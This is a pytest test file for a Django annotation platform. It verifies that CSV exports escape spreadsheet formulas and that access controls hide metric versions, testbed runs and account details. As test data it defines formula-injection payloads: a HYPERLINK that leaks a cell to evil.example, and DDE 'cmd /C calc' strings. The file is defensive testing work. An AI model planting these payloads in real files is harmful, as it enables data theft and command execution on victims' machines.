"""Small leaks and spreadsheet formula injection (issue 43, defects 9 and 10).

- Every CSV the product writes (API downloads, the admin action, management commands) escapes a cell that a
  spreadsheet would run as a formula, whatever field the hostile text came in by.
- Learned-metric versions: full details (note, data counts, held-out results, curve) only to admins, whoever
  started the version, and researchers who own every campaign it trained on; other researchers see the few
  fields needed to use a succeeded version, and nothing of the others.
- Testbed runs: the researcher who started a run, and admins; page and websocket alike.
- An assignment's detail waits for the tutorial, as the page does.
- Adding annotators answers the same for a missing username and one that is not an annotator.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.probe.conftest import Probe

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SYSTEM = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_SOURCE_ID = "+cmd|' /C calc'!A0"
HOSTILE_SOURCE_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_OUTPUT = "-2+3+cmd|' /C calc'!A0"
HOSTILE_METRIC = "=1+1"
ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("annotation", "core", "evaluation", "metrics", "frontend", "config")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as formulas (``#`` comment lines skipped)."""
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    rows = csv.reader(io.StringIO("".join(lines)))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


@pytest.fixture
def hostile(probe: Probe) -> Any:
    """The probe's campaign with a hostile system name, source id and text, output text and metric name,
    rated by two raters and scored by that metric."""
    from annotation.models import Output, OutputJudgement, Source, System
    from metrics.models import MetricScore
    from tests.factories import AnnotationFactory, UserFactory

    campaign = probe.campaign
    System.objects.filter(campaign=campaign, name="Alpha").update(name=HOSTILE_SYSTEM)
    first = Source.objects.filter(campaign=campaign, is_tutorial=False).order_by("order", "id").first()
    assert first is not None
    Source.objects.filter(pk=first.pk).update(external_id=HOSTILE_SOURCE_ID, text=HOSTILE_SOURCE_TEXT)
    Output.objects.filter(source=first, system__name=HOSTILE_SYSTEM).update(text=HOSTILE_OUTPUT, raw_text="")
    outputs = list(Output.objects.filter(source__campaign=campaign, source__is_tutorial=False))
    for n, rater in enumerate(UserFactory.create_batch(2, role="annotator")):
        for source in campaign.sources.filter(is_tutorial=False):
            annotation = AnnotationFactory.create(source=source, annotator=rater, submitted_at=timezone.now())
            OutputJudgement.objects.bulk_create(
                OutputJudgement(annotation=annotation, output=o, rating=float(10 + 30 * i + n))
                for i, o in enumerate(o for o in outputs if o.source_id == source.pk)
            )
    MetricScore.objects.bulk_create(
        MetricScore(output=o, metric=HOSTILE_METRIC, signature="probe", value=-0.25) for o in outputs
    )
    return campaign


CSV_ENDPOINTS = [
    ("campaign-export", {"type": "csv"}),
    ("campaign-leaderboard-csv", {}),
    ("campaign-metric-scores-csv", {}),
]


@pytest.mark.parametrize(("name", "query"), CSV_ENDPOINTS, ids=[n for n, _ in CSV_ENDPOINTS])
def test_csv_downloads_escape_formulas(name: str, query: dict[str, str], hostile: Any, client_as: Any) -> None:
    response = client_as("researcher").get(reverse(name, kwargs={"slug": hostile.slug}), query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert "'" + HOSTILE_SYSTEM in text.replace('""', '"')  # there, as text
    assert _formula_cells(text) == []


def test_every_csv_endpoint_is_probed() -> None:
    """A new CSV download must join CSV_ENDPOINTS: every URL whose view answers text/csv is listed."""
    from tests.probe.urlconf import project_routes

    csv_routes = {r.name for r in project_routes() if r.route.endswith(".csv") or r.name == "campaign-export"}
    assert csv_routes <= {name for name, _ in CSV_ENDPOINTS}


def test_admin_export_action_escapes_formulas(hostile: Any, client_as: Any) -> None:
    client = client_as("admin")
    response = client.post(reverse("admin:annotation_campaign_changelist"),
                           {"action": "export_simpeval", "_selected_action": [hostile.pk]})
    assert response.status_code == 200
    text = response.content.decode()
    assert HOSTILE_SOURCE_TEXT in text
    assert _formula_cells(text) == []


def test_export_command_escapes_formulas(hostile: Any, tmp_path: Path) -> None:
    from django.core.management import call_command

    out = tmp_path / "export.csv"
    call_command("export_simpeval", "--campaign", hostile.slug, "--out", str(out), stdout=io.StringIO())
    text = out.read_text(encoding="utf-8")
    assert "'" + HOSTILE_OUTPUT in text
    assert _formula_cells(text) == []


def test_meta_evaluation_csv_escapes_formulas() -> None:
    from metrics.suite.report import render

    result = {"kind": "kendall", "columns": ["all"],
              "metrics": {HOSTILE_METRIC: {"all": {"value": -0.5, "ci_low": -0.75, "ci_high": -0.25}}}}
    text = render(result, "csv")
    assert "'" + HOSTILE_METRIC in text and "-0.500" in text  # numbers stay numbers
    assert _formula_cells(text) == []


def test_no_csv_writer_outside_the_guard() -> None:
    """Every CSV goes through core.csvsafe.csv_writer: no other product module builds its own writer."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in PRODUCT
        for path in (ROOT / package).rglob("*.py")
        if path.name != "csvsafe.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# --- The assignment's detail waits for the tutorial ---------------------------------------------------------


def test_assignment_detail_waits_for_the_tutorial(probe: Probe, client_as: Any) -> None:
    """A pre-assigned source stays hidden until the tutorial is passed: 403 naming the tutorial, as the
    claim of work and the annotation page answer; its researcher still reads it."""
    from annotation.models import Assignment, TutorialPass
    from annotation.services.assignments import campaign_add_annotators
    from annotation.services.campaigns import campaign_update

    newcomer = probe.users["other_annotator"]  # has passed no tutorial of the probe's campaign
    campaign_update(campaign=probe.campaign, ratings_per_output=2)
    campaign_add_annotators(campaign=probe.campaign, annotators=[newcomer])
    assignment = Assignment.objects.filter(annotator=newcomer, campaign=probe.campaign).select_related("source").first()
    assert assignment is not None
    url = f"/api/assignments/{assignment.pk}/"
    refused = client_as("other_annotator").get(url)
    assert refused.status_code == 403
    assert refused.json()["field"] == "tutorial" and "tutorial" in refused.json()["detail"]
    assert assignment.source.text not in refused.content.decode()
    page = client_as("other_annotator").get(reverse("frontend:annotate", kwargs={"pk": assignment.pk}))
    assert page.status_code == 302
    assert page["Location"] == reverse("frontend:instructions", kwargs={"slug": probe.campaign.slug})
    assert client_as("researcher").get(url).status_code == 200
    TutorialPass.objects.bulk_create(TutorialPass(annotator=newcomer, source=s)
                                     for s in probe.campaign.sources.filter(is_tutorial=True))
    assert client_as("other_annotator").get(url).json()["source"]["text"] == assignment.source.text


# --- Adding annotators tells nothing about other accounts ---------------------------------------------------


def test_adding_annotators_answers_the_same_for_missing_and_non_annotator_names(probe: Probe,
                                                                                 client_as: Any) -> None:
    """A researcher cannot tell a username that exists (and its role) from one that does not."""
    url = reverse("campaign-annotators", kwargs={"slug": probe.campaign.slug})
    client = client_as("researcher")
    answers = {}
    for name in ("p-admin", "p-res2", "no-such-user-here"):
        response = client.post(url, {"usernames": [name]}, format="json")
        assert response.status_code == 400
        answers[name] = response.json()
    assert answers["p-admin"] == {"detail": "no annotator with the username(s) p-admin can be added",
                                  "field": "usernames"}
    shapes = {tuple(sorted(body)) for body in answers.values()}
    assert shapes == {("detail", "field")}
    assert {body["detail"].replace(name, "NAME") for name, body in answers.items()} == {
        "no annotator with the username(s) NAME can be added"}
    # An annotator can be added.
    assert client.post(url, {"usernames": ["p-ann2"]}, format="json").status_code == 201


def test_removing_an_annotator_answers_the_same_for_missing_and_foreign_names(probe: Probe,
                                                                              client_as: Any) -> None:
    client = client_as("researcher")
    answers = []
    for name in ("p-ann2", "p-admin", "no-such-user-here"):  # an annotator elsewhere, an admin, nobody
        response = client.delete(reverse("campaign-annotator-remove",
                                         kwargs={"slug": probe.campaign.slug, "username": name}))
        answers.append((response.status_code, response.json()["detail"].replace(name, "NAME")))
    assert set(answers) == {(400, "NAME is not an active annotator of this campaign")}


def test_dashboard_and_import_form_answer_the_same_for_missing_and_non_annotator_names(
    probe: Probe, client_as: Any
) -> None:
    client = client_as("researcher")
    url = reverse("frontend:research-people", kwargs={"slug": probe.campaign.slug})
    pages = [client.post(url, {"action": "add", "usernames": name}, follow=True).content.decode()
             for name in ("p-admin", "no-such-user-here")]
    assert "no annotator with the username(s) p-admin can be added" in pages[0]
    assert "no annotator with the username(s) no-such-user-here can be added" in pages[1]
    form = client.post(reverse("frontend:research-import"), {"target": probe.campaign.slug, "kind": "jsonl",
                                                             "annotators": "p-res2"}).content.decode()
    assert "no annotator with the username(s) p-res2 can be added" in form


# --- Learned-metric versions --------------------------------------------------------------------------------

SECRET_FIELDS = ("note", "data_counts", "data_warnings", "heldout_results", "hyperparameters", "error", "started_by")


def _versions(probe: Probe) -> dict[str, Any]:
    """Beside the probe's version (an admin's, trained on both researchers' campaigns): one the researcher
    started, one trained on the researcher's campaign only, and one of the other researcher's that failed."""
    from metrics.models import LearnedVersion, TrainingEvent
    from tests.factories import LearnedVersionFactory

    secret = {"note": "secret note", "data_counts": {"ratings": 1234}}
    started = LearnedVersionFactory.create(started_by=probe.users["researcher"], **secret)
    started.campaigns.add(probe.campaign, probe.other_campaign)
    owned = LearnedVersionFactory.create(started_by=probe.users["admin"], **secret)
    owned.campaigns.add(probe.campaign)
    failed = LearnedVersionFactory.create(started_by=probe.users["other_researcher"],
                                          status=LearnedVersion.Status.FAILED, error="boom at /srv/x", **secret)
    failed.campaigns.add(probe.other_campaign)
    LearnedVersion.objects.filter(pk=probe.version.pk).update(**secret)
    for version in (probe.version, started, owned, failed):
        TrainingEvent.objects.create(version=version, kind="epoch", epoch=1, step=1, total_steps=2, loss=0.5)
    return {"mixed": probe.version, "started": started, "owned": owned, "failed": failed}


def test_learned_versions_show_full_details_only_to_their_people(probe: Probe, client_as: Any) -> None:
    from metrics.selectors import LEARNED_PUBLIC_FIELDS

    versions = _versions(probe)
    # role -> the versions it sees in full, and those it sees with the public fields only
    expected = {
        "researcher": ({"started", "owned"}, {"mixed"}),
        "other_researcher": ({"failed"}, {"mixed", "started", "owned"}),
        "admin": ({"mixed", "started", "owned", "failed"}, set()),
    }
    for role, (full, public) in expected.items():
        client = client_as(role)
        listed = {row["id"]: row for row in client.get("/api/learned/versions/").json()}
        assert set(listed) == {versions[k].pk for k in full | public}, role
        for key, version in versions.items():
            detail = client.get(f"/api/learned/versions/{version.pk}/")
            events = client.get(f"/api/learned/versions/{version.pk}/events/")
            where = f"{role} on {key}"
            if key in full:
                assert detail.status_code == 200 and detail.json()["note"] == "secret note", where
                assert listed[version.pk]["data_counts"] == {"ratings": 1234}, where
                assert events.status_code == 200 and len(events.json()["events"]) == 1, where
            elif key in public:
                assert detail.status_code == 200, where
                for shown in (detail.json(), listed[version.pk]):
                    assert set(shown) == set(LEARNED_PUBLIC_FIELDS), where
                    assert shown["kind"] == "lens" and shown["status"] == "succeeded", where
                assert "secret note" not in detail.content.decode(), where
                assert events.status_code == 403 and "events" not in events.json(), where
            else:
                assert detail.status_code == 404 and events.status_code == 404, where
    assert not any(field in str(SECRET_FIELDS) for field in LEARNED_PUBLIC_FIELDS)


@pytest.mark.django_db(transaction=True)
def test_training_websocket_follows_the_same_rule(probe: Probe) -> None:
    from asgiref.sync import async_to_sync
    from channels.testing import WebsocketCommunicator

    from metrics.consumers import TrainingProgressConsumer

    versions = _versions(probe)

    async def close_code(role: str, key: str) -> int | None:
        pk = versions[key].pk
        communicator = WebsocketCommunicator(TrainingProgressConsumer.as_asgi(), f"/ws/learned/{pk}/")
        communicator.scope["user"] = probe.users[role]
        communicator.scope["url_route"] = {"kwargs": {"version_id": str(pk)}}
        connected, code = await communicator.connect()
        if connected:
            snapshot = await communicator.receive_json_from()
            assert snapshot["event"] == "training.snapshot"
            await communicator.disconnect()
            return None
        return int(code)

    codes = {(role, key): async_to_sync(close_code)(role, key)
             for role in ("researcher", "other_researcher", "admin") for key in versions}
    assert codes == {
        ("researcher", "mixed"): 4403, ("researcher", "started"): None, ("researcher", "owned"): None,
        ("researcher", "failed"): 4404,
        ("other_researcher", "mixed"): 4403, ("other_researcher", "started"): 4403,
        ("other_researcher", "owned"): 4403, ("other_researcher", "failed"): None,
        ("admin", "mixed"): None, ("admin", "started"): None, ("admin", "owned"): None, ("admin", "failed"): None,
    }


# --- Testbed runs ---------------------------------------------------------------------------------------


def test_testbed_runs_are_seen_by_who_started_them_and_admins(probe: Probe, client_as: Any) -> None:
    from core.services import background_job_create
    from metrics.selectors import TESTBED_JOB_KIND

    mine = background_job_create(kind=TESTBED_JOB_KIND, owner=probe.users["researcher"])
    theirs = background_job_create(kind=TESTBED_JOB_KIND, owner=probe.users["other_researcher"])
    index = reverse("frontend:research-testbed")

    def detail(job: Any) -> str:
        return reverse("frontend:research-testbed-detail", kwargs={"job_id": job.pk})

    for role, seen, unseen in (("researcher", mine, theirs), ("other_researcher", theirs, mine)):
        client = client_as(role)
        page = client.get(index).content.decode()
        assert detail(seen) in page and detail(unseen) not in page, role
        assert client.get(detail(seen)).status_code == 200, role
        assert client.get(detail(unseen)).status_code == 404, role
    admin = client_as("admin")
    listed = set(re.findall(r"/research/testbed/\d+/", admin.get(index).content.decode()))
    assert {detail(mine), detail(theirs)} <= listed
    assert admin.get(detail(theirs)).status_code == 200


@pytest.mark.django_db(transaction=True)
def test_testbed_websocket_follows_the_same_rule(probe: Probe) -> None:
    from asgiref.sync import async_to_sync
    from channels.testing import WebsocketCommunicator

    from core.services import background_job_create
    from metrics.consumers import TestbedProgressConsumer
    from metrics.selectors import TESTBED_JOB_KIND

    job = background_job_create(kind=TESTBED_JOB_KIND, total=3, owner=probe.users["researcher"])

    async def connects(role: str) -> bool:
        communicator = WebsocketCommunicator(TestbedProgressConsumer.as_asgi(), f"/ws/testbed/{job.pk}/")
        communicator.scope["user"] = probe.users[role]
        communicator.scope["url_route"] = {"kwargs": {"job_id": str(job.pk)}}
        connected, _ = await communicator.connect()
        if connected:
            assert (await communicator.receive_json_from())["total"] == 3
            await communicator.disconnect()
        return bool(connected)

    assert {role: async_to_sync(connects)(role) for role in ("researcher", "other_researcher", "admin")} == {
        "researcher": True, "other_researcher": False, "admin": True}
